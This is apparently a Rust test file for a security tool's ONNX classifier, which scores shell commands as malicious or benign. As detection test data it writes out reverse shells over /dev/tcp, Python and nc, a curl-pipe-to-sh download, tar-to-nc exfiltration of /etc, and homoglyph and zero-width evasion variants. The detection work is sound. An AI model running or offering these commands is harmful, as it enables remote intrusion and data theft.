// SPDX-License-Identifier: Apache-2.0
//! The shipped model in the real ONNX Runtime. `models/fetch-runtime` fetches the library when it is not in the cache.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use lictor_api::event::{Event, Kind, Parent, Severity, Tier};
use lictor_judge::classifier::{Classifier, ClassifierError, Execution};
use lictor_judge::{Basis, Case, Failure, Judge, Outcome};

fn models() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../models")
}

fn model() -> PathBuf {
    models().join("exec-classifier.onnx")
}

/// The real library: where `ORT_DYLIB_PATH` says, or fetched.
static LIBRARY: LazyLock<PathBuf> = LazyLock::new(|| {
    if let Some(path) = std::env::var_os("ORT_DYLIB_PATH") {
        return path.into();
    }
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("onnxruntime");
    let status = Command::new(models().join("fetch-runtime")).arg(&folder).status().unwrap();
    assert!(status.success(), "models/fetch-runtime failed");
    folder.join("libonnxruntime.so")
});

static CLASSIFIER: LazyLock<Classifier> = LazyLock::new(|| Classifier::load(&model(), Some(&LIBRARY)).unwrap());

fn probability(line: &str) -> f64 {
    CLASSIFIER.probability(&Execution::line(line)).unwrap()
}

fn soon() -> Instant {
    Instant::now() + Duration::from_secs(60)
}

fn exec(args: &[&str]) -> Case {
    let mut event = Event::new(Kind::Exec, String::new(), String::new());
    event.process.args = Some(args.iter().map(|arg| (*arg).to_owned()).collect());
    Case::new(event)
}

#[test]
fn attacks_are_told_from_work() {
    let (benign, malicious) = CLASSIFIER.thresholds();
    for line in [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "echo IyEvYmluL3NoCmlk | base64 -d | bash",
    ] {
        assert!(probability(line) >= malicious, "{line}: {}", probability(line));
    }
    for line in [
        "ls -la",
        "git status --short",
        "cd /srv/app && python3 -m pytest -q 2>&1 | tail -20",
        "cargo test --workspace",
        "npm run build",
        "grep -rn 'def main' --include=*.py .",
    ] {
        assert!(probability(line) < benign, "{line}: {}", probability(line));
    }
}

#[test]
fn a_score_names_the_parts_that_weighed_most() {
    let score = CLASSIFIER.score(&Execution::line("cd /srv/app && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")).unwrap();
    let (part, weight) = &score.parts[0];
    assert!(part.contains("/dev/tcp/10.0.0.1") && *weight > 0.0, "{:?}", score.parts);
    assert!(score.parts.iter().all(|(part, weight)| part != "/srv/app" || *weight < 0.1), "{:?}", score.parts);
}

#[test]
fn the_same_line_is_judged_alike_in_every_shell() {
    let line = "curl -s http://198.51.100.7/x.sh | sh";
    let direct = probability(line);
    for args in [["bash", "-c", line], ["/bin/dash", "-ec", line], ["/usr/bin/bash", "-lc", line]] {
        let execution = Execution { args: args.map(str::to_owned).into(), ..Execution::default() };
        assert_eq!(CLASSIFIER.probability(&execution).unwrap(), direct, "{args:?}");
    }
}

#[test]
fn a_verdict_follows_the_thresholds() {
    let answer = CLASSIFIER.judge(&exec(&["ls", "-l"]), &[], soon()).unwrap();
    assert_eq!((answer.outcome, answer.basis), (Outcome::Allow, Basis::Invocation));
    assert_eq!(answer.findings[0].severity, Severity::Info);

    let answer = CLASSIFIER.judge(&exec(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), &[], soon()).unwrap();
    assert_eq!(answer.outcome, Outcome::Deny);
    let finding = &answer.findings[0];
    assert_eq!((finding.tier, finding.severity), (Tier::Classifier, Severity::High));
    assert!(finding.score.unwrap() > 0.9 && !finding.parts.is_empty());

    let strict =
        Classifier::load(&model(), Some(&LIBRARY)).unwrap().with_thresholds(Some(1e-6), Some(0.999_999)).unwrap();
    let answer = strict.judge(&exec(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), &[], soon()).unwrap();
    assert_eq!((answer.outcome, answer.findings[0].severity), (Outcome::Pass, Severity::Low));
}

#[test]
fn what_is_no_execution_is_passed_on_and_what_says_nothing_is_a_failure() {
    let event = Event::new(Kind::File, String::new(), String::new());
    assert_eq!(CLASSIFIER.judge(&Case::new(event), &[], soon()).unwrap().outcome, Outcome::Pass);
    let event = Event::new(Kind::Exec, String::new(), String::new());
    assert!(matches!(CLASSIFIER.judge(&Case::new(event), &[], soon()), Err(Failure::Invalid(_))));
    assert_eq!(CLASSIFIER.judge(&exec(&["ls"]), &[], Instant::now()), Err(Failure::Late));
}

#[test]
fn a_shell_from_a_server_is_worse_than_the_same_shell() {
    let mut case = exec(&["sh", "-c", "id; uname -a"]);
    let alone = CLASSIFIER.judge(&case, &[], soon()).unwrap().findings[0].score.unwrap();
    case.event.process.parent = Some(Parent { exe: Some("/usr/sbin/nginx".to_owned()), ..Parent::default() });
    let from_server = CLASSIFIER.judge(&case, &[], soon()).unwrap().findings[0].score.unwrap();
    assert!(from_server > alone, "{from_server} {alone}");
}

#[test]
fn padding_hides_nothing() {
    let (_, malicious) = CLASSIFIER.thresholds();
    let attack = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    let room = (128 << 10) - attack.len() - 16;
    for (what, line) in [
        ("before", format!("{} {attack}", "ls -la;".repeat(room / 7))),
        ("after", format!("{attack}; {}", "git status;".repeat(room / 11))),
        ("around", format!("{}; {attack}; {}", "true;".repeat(room / 10), "true;".repeat(room / 10))),
        ("comment", format!("#{}\n{attack}", "a".repeat(room))),
        ("long word", format!("echo {}; {attack}", "a".repeat(room))),
        ("quoted", format!("bash -c \"{} {attack}\"", "cd /srv/app;".repeat(room / 12))),
        ("redirections", format!("{} {attack}", ">/dev/null ".repeat(room / 11))),
    ] {
        let begin = Instant::now();
        let probability = probability(&line);
        assert!(probability >= malicious, "{what}: {probability}");
        assert!(begin.elapsed() < Duration::from_secs(20), "{what} took {:?}", begin.elapsed());
    }
}

#[test]
fn bytes_that_mislead_the_eye_are_judged_by_what_they_stand_for() {
    let (_, malicious) = CLASSIFIER.thresholds();
    for line in [
        // Cyrillic letters, zero-width characters, a right-to-left override, full-width characters.
        "b\u{430}sh -i >& /dev/t\u{441}p/10.0.0.1/4444 0>&1",
        "ba\u{200b}sh -i >& /dev/\u{2060}tcp/10.0.0.1/4444 0>&1",
        "\u{202e}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "bash -i >& \u{ff0f}dev/tcp/10.0.0.1/4444 0>&1",
        // As events carry bytes that are not text.
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 \\xff\\xfe",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\\x00",
    ] {
        assert!(probability(line) >= malicious, "{line:?}: {}", probability(line));
    }
}

#[test]
fn every_text_has_a_score() {
    for text in [
        "", " ", "'", "\"", "$(", "`", "<<", "<<EOF", "\\", "|", "&", ";;", "(", "{", "#", "\\x00", "\\xff",
        "\u{202e}", "a=", ">", "$'\\",
    ] {
        let probability = probability(text);
        assert!((0.0..=1.0).contains(&probability), "{text:?}");
        CLASSIFIER.score(&Execution { args: vec![text.to_owned()], ..Execution::default() }).unwrap();
        CLASSIFIER.score(&Execution { args: vec!["sh".to_owned(), text.to_owned()], ..Execution::default() }).unwrap();
    }
    CLASSIFIER.score(&Execution::default()).unwrap();
}

#[test]
fn several_threads_get_the_same_answer() {
    let expected = probability("tar czf - /etc | nc 10.0.0.1 9000");
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope
                .spawn(|| (0..50).for_each(|_| assert_eq!(probability("tar czf - /etc | nc 10.0.0.1 9000"), expected)));
        }
    });
}

#[test]
fn a_model_that_is_missing_cut_or_not_ours_is_refused() {
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path().join("exec-classifier.onnx");
    let beside = folder.path().join("exec-classifier.json");
    let bytes = std::fs::read(model()).unwrap();
    let description = std::fs::read_to_string(model().with_extension("json")).unwrap();
    let refused = |what: &str| {
        let error = Classifier::load(&at, Some(&LIBRARY)).unwrap_err();
        let text = error.to_string();
        assert!(text.contains(what) && text.contains(folder.path().to_str().unwrap()), "{text}");
        error
    };

    assert!(matches!(refused("cannot be read"), ClassifierError::Read { .. }));
    std::fs::write(&beside, &description).unwrap();
    assert!(matches!(refused("cannot be read"), ClassifierError::Read { .. }));
    std::fs::write(&at, &bytes[..bytes.len() / 2]).unwrap();
    assert!(matches!(refused("SHA-256"), ClassifierError::NotOurs { .. }));
    let mut changed = bytes.clone();
    changed[1000] ^= 1;
    std::fs::write(&at, &changed).unwrap();
    refused("SHA-256");

    std::fs::write(&at, &bytes).unwrap();
    let with = |key: &str, value: serde_json::Value| {
        let mut parsed: serde_json::Value = serde_json::from_str(&description).unwrap();
        parsed[key] = value;
        std::fs::write(&beside, parsed.to_string()).unwrap();
    };
    with("features", "0".repeat(64).into());
    refused("another version");
    with("malicious", 0.0.into());
    refused("thresholds");
    with("checks", serde_json::json!([{"cmd": "ls", "probability": 0.99}]));
    refused("where training gave");
    with("surplus", 1.into());
    assert!(matches!(refused("surplus"), ClassifierError::Description { line: 1, .. }));

    // A description that fits a file that is no model.
    std::fs::write(&at, b"not a model").unwrap();
    use sha2::Digest as _;
    let sum: String = sha2::Sha256::digest(b"not a model").iter().map(|byte| format!("{byte:02x}")).collect();
    with("sha256", sum.into());
    let error = Classifier::load(&at, Some(&LIBRARY)).unwrap_err();
    assert!(matches!(error, ClassifierError::Runtime { .. }), "{error}");
}

/// In a process of its own: once loaded, the library stays.
#[test]
fn a_library_that_is_missing_or_broken_is_an_error_and_no_panic() {
    const HERE: &str = "LICTOR_TEST_LIBRARY";
    if let Some(library) = std::env::var_os(HERE) {
        let library = (!library.is_empty()).then(|| PathBuf::from(library));
        println!("answer: {}", Classifier::load(&model(), library.as_deref()).unwrap_err());
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let text = folder.path().join("text.so");
    std::fs::write(&text, "not a library").unwrap();
    let other = std::fs::read_dir("/usr/lib/x86_64-linux-gnu")
        .into_iter()
        .chain(std::fs::read_dir("/usr/lib/aarch64-linux-gnu"));
    let other = other
        .flatten()
        .flatten()
        .find(|entry| entry.file_name().to_string_lossy().starts_with("libc.so."))
        .unwrap()
        .path();
    for (library, says) in [
        (folder.path().join("none.so"), "not installed"),
        (PathBuf::new(), "/usr/lib/lictor/libonnxruntime.so"),
        (text, "not a shared library"),
        (other, "OrtGetApiBase"),
    ] {
        let test = "classifier::a_library_that_is_missing_or_broken_is_an_error_and_no_panic";
        let child = Command::new(std::env::current_exe().unwrap())
            .args([test, "--exact", "--nocapture"])
            .env_remove("ORT_DYLIB_PATH")
            .env(HERE, &library)
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&child.stdout).into_owned();
        assert!(
            child.status.success() && out.contains("answer: ONNX Runtime") && out.contains(says),
            "{library:?}: {out}"
        );
    }
}
